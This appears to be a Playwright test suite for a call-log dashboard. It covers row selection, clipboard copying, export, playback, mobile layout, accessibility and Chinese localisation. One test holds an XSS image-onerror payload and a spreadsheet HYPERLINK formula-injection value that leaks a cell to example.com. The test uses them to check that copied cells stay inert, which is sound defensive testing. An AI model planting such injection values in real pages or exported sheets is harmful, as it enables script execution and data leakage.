import { parse } from 'csv-parse/sync'
import { allRead, type Callboard, expect, test } from './callboard.ts'
import { axeViolations, untranslated } from './page-checks.ts'

const boxes = ({ rows }: Callboard) => rows.getByRole('checkbox', { name: /^Select the call/ })
const ids = ({ rows }: Callboard) =>
  rows.evaluateAll((all) => all.map((row) => row.dataset.id ?? ''))

/** Parses the pasted text with an independent reader. */
const pasted = ({ page }: Callboard) =>
  page
    .evaluate(() => navigator.clipboard.readText())
    .then((text): string[][] => parse(text, { delimiter: '\t' }))

/** Returns the cells of the pasted table. */
async function pastedTable({ page }: Callboard): Promise<string[][]> {
  const html = await page.evaluate(async () => {
    const [item] = await navigator.clipboard.read()
    return (await item?.getType('text/html'))?.text()
  })
  // The page's Trusted Types forbid to parse it there.
  const other = await page.context().newPage()
  const cells = await other.evaluate((text) => {
    const table = new DOMParser().parseFromString(text ?? '', 'text/html')
    return [...table.querySelectorAll('tr')].map((row) =>
      [...row.querySelectorAll('th, td')].map((cell) => cell.textContent ?? ''),
    )
  }, html)
  await other.close()
  return cells
}

test.describe('with a clipboard', () => {
  test.use({ permissions: ['clipboard-read', 'clipboard-write'] })

  test('calls of two pages are selected by mouse and copied as a table', async ({ callboard }) => {
    const { page, pagination, status, details } = callboard
    await callboard.showColumns('startedAt', 'called', 'talkSeconds', 'hangupReason', 'id')
    await callboard.open('?range=yesterday&size=10')
    const first = await ids(callboard)
    await boxes(callboard).nth(1).click()
    await boxes(callboard)
      .nth(3)
      .click({ modifiers: ['Shift'] })
    await expect(page.getByText('3 calls selected')).toBeVisible()
    expect(await page.evaluate(() => String(getSelection()))).toBe('')
    await expect(details).toHaveCount(0)
    await expect(status).toHaveText(/^1–10 of/)

    await pagination.getByRole('button', { name: 'Next page' }).click()
    await expect(status).toHaveText(/^11–20 of/)
    const second = await ids(callboard)
    await boxes(callboard).first().click()
    await expect(page.getByText('4 calls selected, 3 not on this page')).toBeVisible()

    await page.getByRole('button', { name: 'Copy', exact: true }).click()
    await expect(page.getByText('Copied 4 calls')).toBeVisible()
    const [head, ...rows] = await pasted(callboard)
    expect(head).toEqual(['Started', 'Hangup reason', 'Talk time', 'Called', 'Session ID'])
    expect(rows.map((row) => row[4])).toEqual([...first.slice(1, 4), second[0]])
    expect(rows.every(([started = '']) => /^\d{4}-\d\d-\d\d [\d:]{8}\+08:00$/.test(started))).toBe(
      true,
    )
    expect(await pastedTable(callboard)).toEqual([head, ...rows])

    await pagination.getByRole('button', { name: 'Previous page' }).click()
    await expect(status).toHaveText(/^1–10 of/)
    await expect(boxes(callboard).nth(2)).toBeChecked()
    await page.getByRole('button', { name: 'Clear selection' }).click()
    await expect(page.getByRole('main')).toBeFocused()
    await expect(boxes(callboard).nth(2)).not.toBeChecked()
    await expect(page.getByText(/calls? selected/)).toHaveCount(0)
  })

  test('calls are selected by keyboard', async ({ callboard }) => {
    const { page, rows, table } = callboard
    await callboard.open('?range=yesterday&size=10')
    await rows.nth(1).locator('button[aria-expanded]').focus()
    await page.keyboard.press('x')
    await page.keyboard.press('Shift+ArrowDown')
    await page.keyboard.press('Shift+ArrowDown')
    await expect(page.getByText('3 calls selected')).toBeVisible()
    await page.keyboard.press('Shift+ArrowUp')
    await expect(page.getByText('2 calls selected')).toBeVisible()

    await boxes(callboard).nth(5).focus()
    await page.keyboard.press('Space')
    await page.keyboard.press('ArrowDown')
    await page.keyboard.press('ArrowDown')
    await page.keyboard.press('Shift+Space')
    await expect(page.getByText('5 calls selected')).toBeVisible()

    const all = table.getByRole('checkbox', { name: 'Select all on this page' })
    await all.press('Space')
    await expect(page.getByText('10 calls selected')).toBeVisible()
    await page.getByRole('button', { name: 'Copy', exact: true }).press('Enter')
    await expect(page.getByText('Copied 10 calls')).toBeVisible()
    expect(await pasted(callboard)).toHaveLength(11)
    await all.press('Space')
    await expect(page.getByText(/selected|Copied/)).toHaveCount(0)
  })

  test('markup is copied as text that does not run', async ({ callboard }) => {
    const { page, table } = callboard
    await callboard.showColumns('agent', 'calledInfo', 'remark')
    await callboard.open('?range=yesterday&group=!markup')
    await table.getByRole('checkbox', { name: 'Select all on this page' }).click()
    await page.getByRole('button', { name: 'Copy', exact: true }).click()
    await expect(page.getByText('Copied 12 calls')).toBeVisible()
    const rows = await pasted(callboard)
    expect(rows).toHaveLength(13)
    const cells = rows.flat()
    expect(cells).toContain('<img src=x onerror="document.title=\'broken\'">')
    expect(cells).toContain('\'=HYPERLINK("http://example.com/?"&A1,"open")')
    expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/u.test(cell))).toEqual([])
    expect(await pastedTable(callboard)).toEqual(rows)
  })
})

test('the selection survives changes of filters and sort order', async ({ callboard }) => {
  const { page, rows, table } = callboard
  await callboard.open('?range=yesterday&size=10')
  const [id = ''] = await ids(callboard)
  await boxes(callboard).first().click()
  await table.getByRole('columnheader', { name: 'Talk time' }).getByRole('button').click()
  await expect(page.getByText('Sorted by Talk time, descending')).toBeAttached()
  await expect(page.getByText(/^1 call selected/)).toBeVisible()
  await page.goBack()
  await expect(page.locator(`tr[data-id="${id}"]`).getByRole('checkbox')).toBeChecked()
  await expect(rows.getByRole('checkbox', { checked: true })).toHaveCount(1)
  await page.getByLabel('Number').fill('000000')
  await expect(page.getByRole('heading', { name: 'No calls match' })).toBeVisible()
  await expect(page.getByText('1 call selected, 1 not on this page')).toBeVisible()
})

test('the selection bar moves nothing, and axe finds nothing in light and dark', async ({
  callboard,
}) => {
  const { page, rows } = callboard
  await page.emulateMedia({ reducedMotion: 'reduce' })
  await callboard.open('?range=yesterday&size=20&sort=-talkSeconds')
  await allRead(page)
  const before = await rows.first().boundingBox()
  await boxes(callboard).nth(1).click()
  await boxes(callboard)
    .nth(4)
    .click({ modifiers: ['Shift'] })
  await expect(page.getByRole('button', { name: 'Clear selection' })).toBeVisible()
  expect(await rows.first().boundingBox()).toEqual(before)
  expect(await axeViolations(page)).toEqual([])
  await page.emulateMedia({ colorScheme: 'dark' })
  await expect(page.locator('html')).toHaveAttribute('data-mantine-color-scheme', 'dark')
  expect(await axeViolations(page)).toEqual([])
})

test.describe('without permission to copy', () => {
  test('the page explains the alternative', async ({ callboard }) => {
    const { page } = callboard
    // As on a page of plain http, which a test of 127.0.0.1 cannot be.
    await page.addInitScript(() => Object.defineProperty(navigator, 'clipboard', {}))
    await callboard.open('?range=yesterday&size=10')
    await boxes(callboard).first().click()
    await page.getByRole('button', { name: 'Copy', exact: true }).click()
    await expect(page.getByText('Copying needs https. Export them instead.')).toBeVisible()
  })
})

test('selected calls are starred, exported, and played one after the other', async ({
  callboard,
}) => {
  const { page, rows, player, exportDialog } = callboard
  await callboard.open('?range=yesterday&recorded=true&talk=1..&size=20')
  await allRead(page)
  const [first = '', , third = ''] = await ids(callboard)
  for (const row of [0, 2]) await boxes(callboard).nth(row).click()
  await page.getByRole('button', { name: 'Star', exact: true }).click()
  await expect(page.getByText('Starred 2 calls')).toBeVisible()
  await expect(rows.getByText('Starred')).toHaveCount(2)

  await page.getByRole('button', { name: 'Save as file' }).click()
  await expect(exportDialog.getByRole('radio', { name: 'Selected calls' })).toBeChecked()
  await page.keyboard.press('Escape')

  await page.getByRole('button', { name: 'Play 2' }).click()
  const playing = rows.locator('[data-play-call][aria-current]')
  await expect(playing).toHaveAttribute('data-play-call', first)
  await player.getByRole('button', { name: 'Next recorded call' }).click()
  await expect(playing).toHaveAttribute('data-play-call', third)
})

test.describe('on a phone', () => {
  test.use({ viewport: { width: 390, height: 740 }, hasTouch: true, isMobile: true })

  test('the selection bar stays in sight and selects the page', async ({ callboard }) => {
    const { page, rows } = callboard
    await callboard.open('?range=yesterday&size=20')
    const before = await rows.first().boundingBox()
    await boxes(callboard).first().tap()
    await expect(page.getByText('1 call selected')).toBeVisible()
    await expect(page.getByRole('button', { name: 'Copy', exact: true })).toBeVisible()
    expect(await rows.first().boundingBox()).toEqual(before)
    expect(await axeViolations(page)).toEqual([])
    await rows.last().scrollIntoViewIfNeeded()
    await page.getByRole('button', { name: 'Select page' }).tap()
    await expect(page.getByText('20 calls selected')).toBeInViewport()
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(390)
  })
})

test.describe('in Chinese', () => {
  test.use({ locale: 'zh-CN' })

  test('every word is Chinese', async ({ callboard }) => {
    const { page } = callboard
    await page.goto('/?range=yesterday&size=10')
    await page
      .getByRole('checkbox', { name: /^选择 .* 的通话$/ })
      .first()
      .click()
    await expect(page.getByText('已选 1 条通话')).toBeVisible()
    await expect(page.getByRole('button', { name: '取消选择' })).toBeVisible()
    expect(await untranslated(page)).toEqual([])
  })
})
